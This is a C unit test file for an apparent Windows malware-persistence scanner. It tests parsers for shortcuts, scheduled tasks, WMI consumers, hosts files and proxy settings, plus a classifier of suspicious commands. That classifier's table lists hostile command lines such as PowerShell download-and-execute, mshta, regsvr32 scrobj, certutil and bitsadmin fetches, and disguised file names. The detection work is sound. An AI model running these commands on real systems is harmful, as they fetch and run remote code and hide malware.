/* SPDX-License-Identifier: Apache-2.0 */
/* What the checks of Windows read, and which commands they doubt. */
#include "base/arena.h"
#include "base/file.h"
#include "base/tap.h"
#include "scan/checks_formats/doubt.h"
#include "scan/checks_formats/hosts.h"
#include "scan/checks_formats/proxy_settings.h"
#include "scan/checks_formats/shell_link.h"
#include "scan/checks_formats/task_xml.h"
#include "scan/checks_formats/text16.h"
#include "scan/checks_formats/url_file.h"
#include "scan/checks_formats/wmi_data.h"
#include "tests/scan/shell_link_file.h"

static struct shell_link shortcut;

static void
test_link(void)
{
    struct buf file = BUF(1 << 16);
    struct err err;
    link_write(&file, "C:\\Windows\\System32\\cmd.exe", "/c start x.vbs");
    tap_no_err(shell_link_parse(buf_view(&file), &shortcut, &err), &err, "a shell link is read");
    tap_eq_z(shortcut.target, "C:\\Windows\\System32\\cmd.exe", "its target");
    tap_eq_z(shortcut.arguments, "/c start x.vbs", "its arguments");
    size_t refused = 0, ends = file.n - 4; /* the last block may be missing */
    for (size_t n = 0; n < ends; n++)
        refused += shell_link_parse((str){file.p, n}, &shortcut, NULL) == ERR_FORMAT;
    tap_eq_i64(refused, ends, "cut off anywhere it is refused");
    buf_reset(&file);
    link_write_variables(&file, "%APPDATA%\\a.exe");
    tap_no_err(shell_link_parse(buf_view(&file), &shortcut, &err), &err, "one with variables");
    tap_eq_z(shortcut.target, "%APPDATA%\\a.exe", "its target");
    buf_clear(&file);
}

/* Wine's IShellLink wrote it. */
static void
test_link_of_others(void)
{
    struct buf file = {0};
    struct err err;
    if (!tap_no_err(file_read("tests/fuzz/corpus/shell_link/wine.lnk", 1 << 16, &file, &err), &err,
                    "a link that wine wrote"))
        return;
    tap_no_err(shell_link_parse(buf_view(&file), &shortcut, &err), &err, "is read");
    tap_eq_z(shortcut.target, "C:\\windows\\system32\\notepad.exe", "its target");
    tap_eq_z(shortcut.arguments, "/p t\u1ec7p.txt", "its arguments");
    tap_eq_z(shortcut.folder, "C:\\windows", "its folder");
    buf_clear(&file);
}

/* My Computer, the drive, a folder with a short name, a file with its long name too. */
static void
test_link_ids(void)
{
    static const char ids[] = "\x14\0\x1f\x50\xe0\x4f\xd0\x20\xea\x3a\x69\x10\xa2\xd8\x08\0\x2b\x30"
                              "\x30\x9d"
                              "\x19\0\x2f"
                              "C:\\\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
                              "\x12\0\x31\0\0\0\0\0\0\0\0\0\0\0"
                              "sub\0"
                              "\x32\0\x32\0\0\0\0\0\0\0\0\0\0\0"
                              "A~1\0"
                              "\x20\0\x03\0\x04\0\xef\xbe\0\0\0\0\0\0\0\0\0\0\0\0"
                              "a\0.\0e\0x\0\0\0"
                              "\x12\0"
                              "\0\0";
    struct buf file = BUF(1 << 12);
    struct err err;
    link_header(&file, 1);
    link_number(&file, sizeof ids - 1, 2);
    buf_add(&file, ids, sizeof ids - 1);
    link_number(&file, 0, 4);
    tap_no_err(shell_link_parse(buf_view(&file), &shortcut, &err), &err, "item ids");
    tap_eq_z(shortcut.target, "C:\\sub\\a.ex", "are a path");
    buf_clear(&file);
}

static void
test_task(void)
{
    static const str xml = {
        "<?xml version=\"1.0\"?><!-- <Exec> --><t:Task xmlns:t='x'><t:Settings><t:Hidden>true"
        "</t:Hidden></t:Settings><t:Actions Context='A'><t:Exec><t:Command>cmd&#46;exe</t:Command>"
        "<t:Arguments>/c &quot;a &amp; b&quot;</t:Arguments></t:Exec><t:ComHandler><t:ClassId>{1}"
        "</t:ClassId></t:ComHandler><t:Exec><t:Command><![CDATA[a&amp;b.exe]]></t:Command></t:Exec>"
        "</t:Actions><t:Exec><t:Command>outside.exe</t:Command></t:Exec></t:Task>",
        0};
    str bytes = {xml.p, strlen(xml.p)};
    struct arena arena = ARENA;
    struct task task;
    struct err err;
    if (tap_no_err(task_parse(bytes, &arena, &task, &err), &err, "a task is read")) {
        tap_eq_i64(task.count, 3, "with the actions in Actions alone");
        tap_ok(task.is_hidden, "which is hidden");
        tap_eq_z(task.actions[0].program, "cmd.exe", "its program");
        tap_eq_z(task.actions[0].arguments, "/c \"a & b\"", "its arguments");
        tap_eq_z(task.actions[1].class_id, "{1}", "a class");
        tap_eq_z(task.actions[2].program, "a&amp;b.exe", "a section of CDATA stays as it is");
    }
    struct buf wide = BUF(1 << 16);
    buf_z(&wide, "\xff\xfe");
    link_text16(&wide, xml.p, bytes.n);
    struct sha256 before = task_digest(&task);
    tap_no_err(task_parse(buf_view(&wide), &arena, &task, &err), &err, "in UTF-16 too");
    struct sha256 after = task_digest(&task);
    tap_ok(memcmp(&before, &after, sizeof after) == 0, "with the same digest of its actions");
    task.actions[1].folder = "C:\\";
    after = task_digest(&task);
    tap_ok(memcmp(&before, &after, sizeof after) != 0, "which is another when one is");
    tap_eq_z(task.actions[0].program, "cmd.exe", "its program");
    tap_eq_i64(task_parse(STR("MZ"), &arena, &task, &err), ERR_FORMAT, "what is none is refused");
    buf_clear(&wide);
    arena_clear(&arena);
}

static void
test_wmi(void)
{
    static const char data[] = "class\0CommandLineEventConsumer\0\0WorkingDirectory\0\0string\0"
                               "x\0CommandLineEventConsumer\0\0C:\\Temp\\evil.exe -x\0\0Updater\0\0"
                               "y\0CommandLineEventConsumer.Name=\"Updater\"\0"
                               "z\0NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"\0";
    struct wmi_consumer consumer;
    char command[WMI_COMMAND];
    size_t at = 0;
    tap_ok(wmi_next((str){data, sizeof data - 1}, &at, &consumer), "a bound consumer is found");
    tap_eq_z(consumer.class_name, "CommandLineEventConsumer", "its class");
    tap_eq_z(consumer.name, "Updater", "its name");
    wmi_command((str){data, sizeof data - 1}, &consumer, command);
    tap_eq_z(command, "C:\\Temp\\evil.exe -x", "its command");
    tap_ok(!wmi_next((str){data, sizeof data - 1}, &at, &consumer), "and no other");
    at = 0;
    tap_ok(!wmi_next((str){data, 50}, &at, &consumer), "a class alone is none");
}

static void
test_hosts(void)
{
    struct hosts hosts = HOSTS(STR("# c\r\n\n127.0.0.1 localhost\r\n 1.2.3.4\ta.vn  b.vn # x\n5"));
    str name;
    tap_ok(hosts_next(&hosts, &name) && str_eq(name, STR("localhost")), "hosts: a name");
    tap_eq_i64(hosts.line, 3, "its line");
    tap_ok(hosts_next(&hosts, &name) && str_eq(name, STR("a.vn")), "the next line");
    tap_eq_str(hosts.address, STR("1.2.3.4"), "its address");
    tap_ok(hosts_next(&hosts, &name) && str_eq(name, STR("b.vn")), "its second name");
    tap_ok(!hosts_next(&hosts, &name), "an address alone is nothing");
    tap_ok(hosts_is_nowhere(STR("0.0.0.0")) && hosts_is_nowhere(STR("::1")), "nowhere");
    tap_ok(hosts_is_public(STR("8.8.8.8")) && !hosts_is_public(STR("10.1.1.1")) &&
               !hosts_is_public(STR("172.16.0.1")) && !hosts_is_public(STR("fe80::1")),
           "public addresses");
}

static void
test_small(void)
{
    str value;
    struct proxy_settings settings;
    static const char proxy[] = "\x18\0\0\0\0\0\0\0\x03\0\0\0\x04\0\0\0a:80\x01\0\0\0x";
    tap_ok(url_file_value(STR("[a]\nURL=1\n[InternetShortcut]\r\nurl = http://x/\r\n"),
                          STR("InternetShortcut"), STR("URL"), &value) &&
               str_eq(value, STR("http://x/")),
           "the address of an internet shortcut");
    tap_ok(proxy_settings_parse((str){proxy, sizeof proxy - 1}, &settings), "a proxy");
    tap_eq_str(settings.server, STR("a:80"), "its server");
    tap_ok(!proxy_settings_parse((str){proxy, 18}, &settings), "cut off");
    char text[16];
    text16_to_utf8((str){"\x3d\xd8\x00\xde\x00\xd8", 6}, text, sizeof text);
    tap_eq_z(text, "\U0001F600\uFFFD", "UTF-16: a pair, and half of one");
}

static void
test_doubts(void)
{
    static const struct {
        const char *command, *reason;
        enum finding_level level;
    } cases[] = {
        {"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "encoded-command", FINDING_SUSPICIOUS},
        {"p^owershell.exe -NoP -w hidden -File a.ps1", "hidden-window", FINDING_LOOK},
        {"powershell IEX (New-Object Net.WebClient).DownloadString('http://x')", "download",
         FINDING_SUSPICIOUS},
        {"mshta http://x/a.hta", "download", FINDING_SUSPICIOUS},
        {"regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "download", FINDING_SUSPICIOUS},
        {"rundll32.exe javascript:\"\\..\\mshtml\"", "borrowed-program", FINDING_SUSPICIOUS},
        {"certutil -urlcache -f http://x a", "download", FINDING_SUSPICIOUS},
        {"certutil -decode a b", "decode", FINDING_SUSPICIOUS},
        {"bitsadmin /transfer a http://x b", "download", FINDING_SUSPICIOUS},
        {"cmd /c start %APPDATA%\\x\\a.exe", "open-folder", FINDING_SUSPICIOUS},
        {"wscript.exe \"C:\\Users\\lan\\AppData\\Roaming\\x\\a.vbs\"", "open-folder",
         FINDING_SUSPICIOUS},
        {"C:\\Users\\lan\\AppData\\Local\\Temp\\a.exe", "temporary-folder", FINDING_SUSPICIOUS},
        {"\"C:\\$Recycle.Bin\\a.exe\"", "recycle-bin", FINDING_SUSPICIOUS},
        {"C:\\x\\hoa don.pdf   .exe", "double-ending", FINDING_SUSPICIOUS},
        {"C:\\x\\a\u202Efdp.exe", "turned-name", FINDING_SUSPICIOUS},
        {"C:\\Users\\Public\\a.exe", "open-folder", FINDING_SUSPICIOUS},
        {"\"C:\\Users\\lan\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", NULL,
         0},
        {"C:\\Users\\lan\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", NULL, 0},
        {"powershell.exe -ExecutionPolicy Bypass -File C:\\x\\a.ps1", NULL, 0},
        {"\"C:\\ProgramData\\Package Cache\\{1}\\setup.exe\" /burn.runonce", NULL, 0},
        {"rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL", NULL, 0},
        {"", NULL, 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct doubt doubt = doubt_command(str_of(cases[i].command));
        tap_eq_z(doubt.reason ? doubt.reason->id : "none",
                 cases[i].reason ? cases[i].reason : "none", "%s", cases[i].command);
        tap_eq_i64(doubt.reason ? doubt.level : 0, cases[i].level, "its level");
    }
    char padded[400];
    snprintf(padded, sizeof padded, "cmd.exe%300s/c a.bat", "");
    struct doubt doubt = doubt_command(str_of(padded));
    tap_eq_z(doubt.reason ? doubt.reason->id : "none", "padded", "blanks that hide the rest");
    str windows = STR("C:\\Windows");
    tap_ok(doubt_is_false_system_program(STR("C:\\Users\\x\\svchost.exe"), windows), "posing");
    tap_ok(!doubt_is_false_system_program(STR("c:\\windows\\system32\\SVCHOST.exe"), windows) &&
               !doubt_is_false_system_program(STR("C:\\Windows\\explorer.exe"), windows) &&
               !doubt_is_false_system_program(STR("D:\\a.exe"), windows),
           "not posing");
}

int
main(void)
{
    test_link();
    test_link_of_others();
    test_link_ids();
    test_task();
    test_wmi();
    test_hosts();
    test_small();
    test_doubts();
    return tap_done();
}
